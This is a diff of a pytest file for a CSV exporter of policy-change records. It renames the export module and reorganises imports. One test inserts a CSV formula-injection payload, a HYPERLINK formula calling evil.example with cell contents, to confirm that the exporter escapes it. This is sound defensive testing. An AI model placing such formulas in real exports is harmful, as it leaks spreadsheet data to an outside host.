@@ -3,17 +3,17 @@
 import csv
 from pathlib import Path
 
-import loaders
 import pytest
-from citings import ALL, CITING, export, fill
 from hypothesis import given
 from hypothesis import strategies as st
-from shelf import Shop
 from sqlite_utils import Database
 
 from db.errors import OutError
-from db.export import changes
-from db.export.selection import Exported, Selection
+from db.export import csv_changes
+from db.export.evidence import Exported, Selection
+from tests.support import loaders
+from tests.support.citations import ALL, CITING, export, fill
+from tests.support.shop import Shop
 
 BEGINNINGS = "=+-@\t\r\n＝＋－＠"
 
@@ -25,14 +25,16 @@ def rows(place: Path) -> list[dict[str, str]]:
 
 def test_a_change_has_both_its_captures(db: Database, shelf: Shop, neighbour: Shop, tmp_path: Path):
     fill(shelf, neighbour)
-    assert export(changes, db, tmp_path / "x.csv") == Exported(2, 0)
-    assert export(changes, db, tmp_path / "x.csv") == Exported(0, 2)
+    assert export(csv_changes, db, tmp_path / "x.csv") == Exported(2, 0)
+    assert export(csv_changes, db, tmp_path / "x.csv") == Exported(0, 2)
     first, second = rows(tmp_path / "x.csv")
-    assert list(first) == list(changes.HEADER)
-    assert [first[name] for name in changes.HEADER[:8]] == [
+    assert list(first) == list(csv_changes.HEADER)
+    assert [first[name] for name in csv_changes.HEADER[:8]] == [
         "shop.example", "wording", "1", "2", "2011-01-01T00:00:00Z", "2012-01-01T00:00:00Z", "6", "1",
     ]  # fmt: skip
-    assert float(first["similarity"]) == db.execute("select similarity from changes order by id").fetchone()[0]
+    assert (
+        float(first["similarity"]) == db.execute("select similarity from changes order by id").fetchone()[0]
+    )
     assert first["old_snapshot"] == "https://archive.example/20110101000000/http://shop.example/privacy"
     assert (first["old_timestamp"], first["new_timestamp"]) == ("20110101000000", "20120101000000")
     bodies = db.execute(
@@ -48,9 +50,9 @@ def test_a_change_has_both_its_captures(db: Database, shelf: Shop, neighbour: Sh
 
 
 def test_no_change_leaves_a_header(db: Database, tmp_path: Path):
-    assert export(changes, db, tmp_path / "x.csv") == Exported(0, 0)
-    assert (tmp_path / "x.csv").read_bytes() == ",".join(changes.HEADER).encode() + b"\r\n"
-    assert export(changes, db, tmp_path / "x.csv") == Exported(0, 0)
+    assert export(csv_changes, db, tmp_path / "x.csv") == Exported(0, 0)
+    assert (tmp_path / "x.csv").read_bytes() == ",".join(csv_changes.HEADER).encode() + b"\r\n"
+    assert export(csv_changes, db, tmp_path / "x.csv") == Exported(0, 0)
 
 
 WITH_PANDAS = """
@@ -65,7 +67,7 @@ tell(str(frame["similarity"].dtype))
 @loaders.needed
 def test_pandas_loads_it(db: Database, shelf: Shop, neighbour: Shop, tmp_path: Path):
     fill(shelf, neighbour)
-    export(changes, db, tmp_path)
+    export(csv_changes, db, tmp_path)
     assert loaders.told(WITH_PANDAS, tmp_path) == [[6, 1], [365, 365], "float64"]
 
 
@@ -74,13 +76,13 @@ def test_a_title_is_no_formula(db: Database, shelf: Shop, neighbour: Shop, tmp_p
     fill(shelf, neighbour)
     title = f'{beginning}HYPERLINK("http://evil.example/?x="&A1,"Click")'
     db.execute("update texts set title = ?", [title])
-    export(changes, db, tmp_path / "x.csv")
+    export(csv_changes, db, tmp_path / "x.csv")
     assert [of["title"] for of in rows(tmp_path / "x.csv")] == [f"'{title}"] * 2
 
 
 @given(st.text())
 def test_no_text_begins_a_formula(text: str):
-    said = str(changes.safe(text))
+    said = str(csv_changes.safe(text))
     assert said.removeprefix("'") == text.removeprefix("'")
     assert said.lstrip()[:1] not in set(BEGINNINGS)
     assert said[:1] not in set(BEGINNINGS)
@@ -88,17 +90,17 @@ def test_no_text_begins_a_formula(text: str):
 
 @given(st.integers() | st.floats())
 def test_numbers_stay_numbers(number: float):
-    assert changes.safe(number) is number
+    assert csv_changes.safe(number) is number
 
 
 def test_a_file_of_another_is_left(db: Database, shelf: Shop, tmp_path: Path):
     (tmp_path / "x.csv").write_text("retailer,kind\ntheirs,theirs\n")
     with pytest.raises(OutError, match="is there and no such export"):
-        changes.export(db, tmp_path / "x.csv", ALL, CITING, lambda _: None)
+        csv_changes.export(db, tmp_path / "x.csv", ALL, CITING, lambda _: None)
     assert (tmp_path / "x.csv").read_text() == "retailer,kind\ntheirs,theirs\n"
 
 
 def test_the_latest_of_each(db: Database, shelf: Shop, neighbour: Shop, tmp_path: Path):
     fill(shelf, neighbour)
-    assert export(changes, db, tmp_path / "x.csv", Selection(latest=True)) == Exported(1, 0)
+    assert export(csv_changes, db, tmp_path / "x.csv", Selection(latest=True)) == Exported(1, 0)
     assert [of["old_version"] for of in rows(tmp_path / "x.csv")] == ["2"]
